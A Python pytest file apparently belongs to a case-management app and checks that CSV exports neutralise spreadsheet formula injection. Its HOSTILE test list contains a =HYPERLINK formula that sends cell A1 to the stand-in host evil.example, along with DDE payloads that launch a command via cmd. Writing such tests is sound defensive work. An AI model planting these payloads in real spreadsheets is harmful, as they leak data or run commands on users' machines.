"""Every CSV the app writes is safe to open in a spreadsheet: formula starters are neutralized
(the issue's cells), plain numbers are kept."""

from __future__ import annotations

import csv
import io

import pytest

from app.domain.spreadsheet import SafeCsvWriter, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starters_are_neutralized(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-30", "+79161234567", "12.5", "-1e3", "Дело №5", "", "a=b"])
def test_plain_values_are_kept(cell):
    assert safe_cell(cell) == cell


def test_writer_round_trip():
    buffer = io.StringIO()
    SafeCsvWriter(buffer, delimiter=";").writerows([HOSTILE, [1, -2.5, None]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert all(value.startswith("'") for value in rows[0])
    assert rows[1] == ["1", "-2.5", ""]


def test_rejected_rows_report_and_timeline_csv_are_neutralized(sqlite_ctx, tmp_path):
    from datetime import UTC, datetime

    from app.services.calls.dto import Rejection
    from app.services.calls.importing import write_rejections
    from app.services.core import records
    from app.services.core.cases import CaseInput, create_case
    from app.services.timeline.build import build_timeline, export_csv

    report = write_rejections([Rejection(3, "bad_date", HOSTILE[1])], tmp_path / "r.csv")
    rows = list(csv.reader(report.open(encoding="utf-8-sig"), delimiter=";"))
    assert rows[1] == ["3", "bad_date", "'" + HOSTILE[1]]

    case = create_case(sqlite_ctx, CaseInput(title="Дело", region="MSK", tz="Europe/Moscow"))
    records.add_event(
        sqlite_ctx,
        case.id,
        records.EventInput(at=datetime(2025, 5, 1, 10, tzinfo=UTC), text=HOSTILE[0]),
    )
    data = build_timeline(sqlite_ctx, case.id)
    export_csv(sqlite_ctx, case.id, data.events, data.zone, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text


def test_no_module_writes_csv_around_the_safe_writer():
    from pathlib import Path

    import app

    root = Path(app.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheet.py"
        and any(
            marker in path.read_text(encoding="utf-8")
            for marker in ("csv.writer(", "csv.DictWriter(")
        )
    ]
    assert offenders == []
